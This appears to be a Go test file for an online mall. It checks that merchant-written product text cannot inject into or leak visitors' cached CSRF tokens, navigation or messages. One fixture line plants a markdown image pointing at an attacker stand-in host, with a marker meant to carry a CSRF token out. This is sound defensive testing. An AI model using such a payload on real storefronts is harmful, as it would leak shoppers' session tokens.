package storefront_test

import (
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/PuerkitoBio/goquery"

	"github.com/mall-project/mall/internal/malltest"
	"github.com/mall-project/mall/merchants"
)

// tokenOnlyInForms fails unless the visitor's token is in the page exactly
// where the mall put it: in the value of each _csrf field, nowhere else.
func tokenOnlyInForms(t *testing.T, who string, p *malltest.Page, token string) {
	t.Helper()
	fields := p.Doc.Find(`input[name="_csrf"]`)
	fields.Each(func(_ int, f *goquery.Selection) {
		if v, _ := f.Attr("value"); v != token {
			t.Errorf("%s: a _csrf field holds %q, not the visitor's token", who, v)
		}
	})
	if n := strings.Count(p.Body, token); n != fields.Length() {
		t.Errorf("%s: the token is in the page %d times, in %d fields", who, n, fields.Length())
	}
}

// TestMerchantTextCannotReachAVisitorsParts: the per-visitor parts of a
// cached page are put where the page was rendered with them, never where
// something in it looks like a marker. A merchant who writes the markers
// into a product sees them shown as written, and no visitor's token, links
// or message lands in the merchant's text.
func TestMerchantTextCannotReachAVisitorsParts(t *testing.T) {
	s := newShopMall(t)
	tea := s.merchant(merchants.Merchant{Slug: "tea-house"})
	markers := "__mall_csrf_9f8e7d__ <!--mall:visitor-nav--> <!--mall:flash--> anon-csrf-probe-7c1e"
	in := simple("Tea "+markers, "green-tea", "GT-1", 1250, 10)
	in.Description = "`" + markers + "` ![x](https://evil.example/p.png?t=__mall_csrf_9f8e7d__)"
	s.product(tea.ID, in)
	const path = "/s/tea-house/p/green-tea"
	s.get(path) // fills the cache

	anon := s.visitor()
	anon.Get("/account/sign-in")
	shopper := s.visitor()
	signUp(t, shopper, "ada@example.test")
	shopper.Get("/account")
	flashed := s.visitor()
	bad := flashed.Post("/cart/add", url.Values{"variant_id": {"1"}, "quantity": {"0"}, "return": {path}})
	if bad.Status != http.StatusSeeOther || bad.Location != path {
		t.Fatalf("bad add to cart: %d to %q", bad.Status, bad.Location)
	}
	for who, v := range map[string]*malltest.Browser{"anonymous": anon, "signed in": shopper, "with a message": flashed} {
		token := v.CSRF
		p := v.Get(path)
		if p.Status != http.StatusOK {
			t.Fatalf("%s: %d", who, p.Status)
		}
		if got := p.Text("h1"); got != "Tea "+markers {
			t.Errorf("%s: title %q, want it as the merchant wrote it", who, got)
		}
		if got := p.Text(`[data-testid="product-description"] code`); got != markers {
			t.Errorf("%s: description %q, want it as the merchant wrote it", who, got)
		}
		if p.Doc.Find(`[data-testid="product-description"] img`).Length() != 0 {
			t.Errorf("%s: the description loads an image from another host", who)
		}
		if n := p.Doc.Find(`nav.visitor-nav`).Length(); n != 1 {
			t.Errorf("%s: %d account navs", who, n)
		}
		if got, want := p.Doc.Find(`[data-testid="flash"]`).Length(), map[bool]int{true: 1}[who == "with a message"]; got != want {
			t.Errorf("%s: %d messages, want %d", who, got, want)
		}
		if got, want := p.Doc.Find(`nav.visitor-nav a[href="/account"]`).Length(), map[bool]int{true: 1}[who == "signed in"]; got != want {
			t.Errorf("%s: %d account links, want %d", who, got, want)
		}
		tokenOnlyInForms(t, who, p, token)
	}
}
